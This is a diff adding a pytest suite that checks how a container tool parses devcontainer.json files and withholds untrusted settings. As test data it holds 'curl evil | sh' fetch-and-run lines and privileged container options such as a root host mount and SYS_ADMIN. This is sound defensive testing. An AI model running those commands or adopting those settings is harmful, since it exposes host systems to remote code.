@@ -1,0 +1,272 @@
+"""devcontainer.json support (SPEC section 18): real-world shapes, read through the
+adapter from a temporary workspace, interpreted, and split by trust (section 14)."""
+
+from __future__ import annotations
+
+import hashlib
+import shutil
+from pathlib import Path
+
+import pytest
+
+from containai.adapters import devcontainer_file as F
+from containai.domain import devcontainer as D
+from containai.domain import settings, trust
+from containai.domain.devcontainer_vars import devcontainer_id, env_from_list
+
+DATA = Path(__file__).parent / "data" / "devcontainer"
+SH = D.SHELL
+
+
+def workspace_with(tmp_path: Path, fixture: str, *, dockerfile: bool = True) -> Path:
+    ws = tmp_path / "myproj"
+    (ws / ".devcontainer").mkdir(parents=True)
+    shutil.copy(DATA / fixture, ws / ".devcontainer" / "devcontainer.json")
+    if dockerfile:
+        shutil.copy(DATA / "Dockerfile", ws / ".devcontainer" / "Dockerfile")
+    return ws
+
+
+def load(ws: Path) -> D.Loaded:
+    loaded = F.load(str(ws))
+    assert loaded is not None
+    return loaded
+
+
+def warned(spec: D.Devcontainer, *fragments: str) -> list[str]:
+    return [w for w in spec.warnings if all(f in w for f in fragments)]
+
+
+def one_line(spec: D.Devcontainer) -> None:
+    for w in spec.warnings:
+        assert "\n" not in w and w.startswith(spec.source + ": ")
+
+
+# ---------------------------------------------------------------- real-world shapes
+def test_image_only_template(tmp_path: Path) -> None:
+    ws = workspace_with(tmp_path, "image-only.jsonc", dockerfile=False)
+    loaded = load(ws)
+    spec = loaded.spec
+    assert loaded.path == str(ws / ".devcontainer" / "devcontainer.json")
+    assert spec.image == "mcr.microsoft.com/devcontainers/python:1-3.12-bookworm"
+    assert spec.build is None and loaded.dockerfile is None
+    assert spec.post_create == [[SH, "-c", "pip3 install --user -r requirements.txt"]]
+    assert spec.post_start == [] and spec.forward_ports == []
+    assert spec.warnings == []  # customizations and comments are nothing to warn about
+    # no build: the digest is the file's own SHA-256 (what `sha256sum` prints)
+    data = (ws / ".devcontainer" / "devcontainer.json").read_bytes()
+    assert loaded.digest == hashlib.sha256(data).hexdigest()
+
+
+def test_dockerfile_with_args_and_context_parent(tmp_path: Path) -> None:
+    ws = workspace_with(tmp_path, "dockerfile-args.jsonc")
+    loaded = load(ws)
+    spec = loaded.spec
+    assert spec.image is None
+    assert spec.build == D.Build(
+        dockerfile=str(ws / ".devcontainer" / "Dockerfile"),
+        context=str(ws),
+        args={"VARIANT": "20-bookworm", "NPM_GLOBAL": "typescript@5"},
+        target="dev",
+    )
+    assert loaded.dockerfile == (DATA / "Dockerfile").read_bytes()
+    assert spec.container_env == {"NODE_ENV": "development"}
+    assert spec.forward_ports == [3000, 9229]
+    assert spec.post_create == [[SH, "-c", "npm ci"]]
+    assert len(warned(spec, "features", "not applied", "github-cli")) == 1
+    assert len(warned(spec, "remoteUser", "not applied")) == 1
+    assert not warned(spec, "portsAttributes")
+    one_line(spec)
+
+
+def test_lifecycle_commands_in_all_three_forms(tmp_path: Path) -> None:
+    spec = load(workspace_with(tmp_path, "lifecycle-forms.jsonc", dockerfile=False)).spec
+    assert spec.post_create == [
+        [SH, "-c", "pip install -e '.[dev]' && pre-commit install"],
+        ["git", "config", "--local", "core.autocrlf", "input"],
+    ]
+    assert spec.post_start == [["bash", "-lc", "make serve-docs > /tmp/docs.log 2>&1 &"]]
+    assert len(warned(spec, "onCreateCommand", "postCreateCommand and postStartCommand")) == 1
+    assert len(warned(spec, "postAttachCommand", "not applied")) == 1
+    assert not warned(spec, "waitFor")
+
+
+def test_legacy_top_level_dockerfile_and_ptrace_run_args(tmp_path: Path) -> None:
+    ws = workspace_with(tmp_path, "legacy-dockerfile.jsonc")
+    spec = load(ws).spec
+    assert spec.build is not None
+    assert spec.build.dockerfile == str(ws / ".devcontainer" / "Dockerfile")
+    assert spec.build.context == str(ws)
+    assert spec.build.args == {"VARIANT": "1.21"}
+    (run_args,) = warned(spec, "runArgs")
+    assert "--cap-add=SYS_PTRACE" in run_args and "not applied" in run_args
+    assert warned(spec, "remoteUser")
+    assert not warned(spec, "settings") and not warned(spec, "extensions")
+
+
+def test_workspace_variables_and_local_env(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("GITHUB_TOKEN", "ghp_host_secret")
+    monkeypatch.setenv("HOME", "/home/someone")
+    ws = workspace_with(tmp_path, "workspace-vars.jsonc", dockerfile=False)
+    spec = load(ws).spec
+    assert spec.container_env == {
+        "CARGO_TARGET_DIR": f"{ws}/target",
+        "PROJECT": "myproj",
+        "GITHUB_TOKEN": "",  # never the host's value
+        "LOG": "info",  # the default given in the file
+    }
+    # ${containerEnv:...} waits for the running container (phase two)
+    assert spec.remote_env == {
+        "PATH": f"${{containerEnv:PATH}}:{ws}/bin",
+        "EDITOR": "${containerEnv:EDITOR:vi}",
+        "OLD": None,
+    }
+    assert spec.post_create == [
+        [SH, "-c", f"cargo fetch --manifest-path {ws}/Cargo.toml && echo ${{HOME}}"]
+    ]
+    assert warned(spec, "${localEnv:GITHUB_TOKEN}", "cai run -e GITHUB_TOKEN=VALUE")
+    assert warned(spec, "${localEnv:RUST_LOG}", "default 'info'")
+    assert warned(spec, "workspaceMount") and warned(spec, "workspaceFolder")
+    assert warned(spec, "mounts", "not applied")
+    assert "ghp_host_secret" not in repr(spec) and "/home/someone" not in repr(spec)
+    running = D.in_container(spec, env_from_list(["PATH=/usr/local/bin:/usr/bin", "X=a=b"]))
+    assert running.remote_env == {
+        "PATH": f"/usr/local/bin:/usr/bin:{ws}/bin",
+        "EDITOR": "vi",
+        "OLD": None,
+    }
+
+
+def test_compose_is_not_supported_but_the_rest_applies(tmp_path: Path) -> None:
+    spec = load(workspace_with(tmp_path, "compose.jsonc", dockerfile=False)).spec
+    assert spec.image is None and spec.build is None
+    assert warned(spec, "dockerComposeFile", "Docker Compose is not supported")
+    assert spec.forward_ports == [8000]
+    assert warned(spec, "forwardPorts 'db:5432' not applied")
+    assert spec.post_create == [["python", "manage.py", "migrate"]]
+
+
+def test_the_issue_acceptance_shape(tmp_path: Path) -> None:
+    ws = workspace_with(tmp_path, "checked-by.jsonc")
+    loaded = load(ws)
+    spec = D.applicable(loaded.spec, trusted=False)
+    assert spec.container_env == {"DEVC_PROBE": "from-devcontainer"}
+    assert spec.post_create == [[SH, "-c", "echo created > /tmp/devc-created"]]
+    assert spec.forward_ports == [8765]
+    assert warned(spec, 'runArgs ["--privileged"] not applied')
+    assert spec.build is None and warned(spec, "build not applied", "cai trust")
+    trusted = D.applicable(loaded.spec, trusted=True)
+    assert trusted.build is not None and trusted.build.dockerfile.endswith("/Dockerfile")
+
+
+def test_comments_and_trailing_commas() -> None:
+    text = b'{\n // line\n "image": "debian:12", /* block */\n "forwardPorts": [1, 2,],\n}\n'
+    assert F.parse("/w/.devcontainer.json", text) == {"image": "debian:12", "forwardPorts": [1, 2]}
+    assert F.parse("/w/.devcontainer.json", b"\xef\xbb\xbf{}") == {}  # a BOM from an editor
+
+
+# ---------------------------------------------------------------- finding the file
+def test_spec_order_and_root_file(tmp_path: Path) -> None:
+    ws = tmp_path / "ws"
+    ws.mkdir()
+    assert F.load(str(ws)) is None
+    (ws / ".devcontainer.json").write_text('{"build": {"dockerfile": "Dockerfile"}}')
+    (ws / "Dockerfile").write_text("FROM debian\n")
+    spec = load(ws).spec
+    assert spec.build is not None
+    assert spec.build.dockerfile == str(ws / "Dockerfile")  # relative to the file's folder
+    assert spec.build.context == str(ws)
+    (ws / ".devcontainer").mkdir()
+    (ws / ".devcontainer" / "devcontainer.json").write_text('{"image": "debian:12"}')
+    assert load(ws).path == str(ws / ".devcontainer" / "devcontainer.json")
+
+
+# ---------------------------------------------------------------- trust (section 14)
+def test_trust_split_and_digest(tmp_path: Path) -> None:
+    ws = workspace_with(tmp_path, "dockerfile-args.jsonc")
+    loaded = load(ws)
+    assert not D.is_trusted(loaded, {})
+    assert D.is_trusted(loaded, {loaded.path: loaded.digest})
+    untrusted = D.applicable(loaded.spec, trusted=False)
+    assert untrusted.build is None and untrusted.image is None
+    assert untrusted.container_env == loaded.spec.container_env
+    assert untrusted.post_create == loaded.spec.post_create
+    assert untrusted.forward_ports == loaded.spec.forward_ports
+    (msg,) = warned(untrusted, "not trusted")
+    assert "Dockerfile" in msg and "cai trust" in msg
+    assert D.applicable(loaded.spec, trusted=True) == loaded.spec
+    # an edited Dockerfile un-trusts the file, as an edited devcontainer.json does
+    (ws / ".devcontainer" / "Dockerfile").write_text("FROM debian\nRUN curl evil | sh\n")
+    assert not D.is_trusted(load(ws), {loaded.path: loaded.digest})
+    image_only = load(workspace_with(tmp_path / "b", "image-only.jsonc", dockerfile=False))
+    (msg,) = warned(D.applicable(image_only.spec, trusted=False), "image not applied")
+    assert "Dockerfile" not in msg
+
+
+def test_nothing_to_trust_means_no_warning() -> None:
+    spec = D.interpret(
+        {"postCreateCommand": "true"}, source="/w/.devcontainer.json", workspace="/w"
+    )
+    assert D.applicable(spec, trusted=False) == spec
+
+
+def test_devcontainer_setting_is_the_users_alone() -> None:
+    key = settings.KEYS["devcontainer"]
+    assert key.kind is bool and key.default is True
+    assert settings.parse_value("devcontainer", "false") is False
+    assert trust.classify("devcontainer") == "never"
+    applied, ignored = trust.repo_policy(
+        {"devcontainer": False}, trusted=True, source="f", known=settings.KEYS
+    )
+    assert applied == {} and ignored[0].reason == trust.NEVER_REASON
+
+
+# ---------------------------------------------------------------- details
+def test_build_wins_over_image_with_a_warning() -> None:
+    spec = D.interpret(
+        {"image": "debian:12", "build": {"dockerfile": "Dockerfile"}},
+        source="/w/.devcontainer/devcontainer.json",
+        workspace="/w",
+    )
+    assert spec.image is None and spec.build is not None
+    assert warned(spec, "image not applied")
+
+
+def test_harmless_settings_are_not_warned_about() -> None:
+    doc = {"privileged": False, "capAdd": [], "runArgs": [], "overrideCommand": True, "init": True}
+    spec = D.interpret(doc, source="/w/.devcontainer.json", workspace="/w")
+    assert spec.warnings == []
+    spec = D.interpret({"overrideCommand": False}, source="/w/.devcontainer.json", workspace="/w")
+    assert warned(spec, "overrideCommand")
+
+
+def test_each_spec_named_key_gets_one_warning() -> None:
+    doc = {
+        "runArgs": ["--network=host"],
+        "mounts": ["source=/,target=/host,type=bind"],
+        "privileged": True,
+        "capAdd": ["SYS_ADMIN"],
+        "securityOpt": ["apparmor=unconfined"],
+        "features": {"ghcr.io/devcontainers/features/node:1": {}},
+        "remoteUser": "root",
+        "initializeCommand": "curl evil | sh",
+        "build": {"dockerfile": "Dockerfile", "options": ["--network=host"]},
+    }
+    spec = D.interpret(doc, source="/w/.devcontainer/devcontainer.json", workspace="/w")
+    for key in ("runArgs", "mounts", "privileged", "capAdd", "securityOpt", "features"):
+        assert len(warned(spec, f": {key} ", "not applied")) == 1, key
+    assert len(warned(spec, ": remoteUser ")) == 1
+    assert warned(spec, "initializeCommand", "never runs a repository's command outside")
+    assert warned(spec, "build.options")
+    assert spec.post_create == [] and spec.post_start == []
+
+
+def test_devcontainer_id_is_stable_and_unique() -> None:
+    a, b = devcontainer_id("/w/a"), devcontainer_id("/w/b")
+    assert a == devcontainer_id("/w/a") and a != b and len(a) == 52
+    spec = D.interpret(
+        {"containerEnv": {"ID": "${devcontainerId}"}},
+        source="/w/a/.devcontainer.json",
+        workspace="/w/a",
+    )
+    assert spec.container_env == {"ID": a}
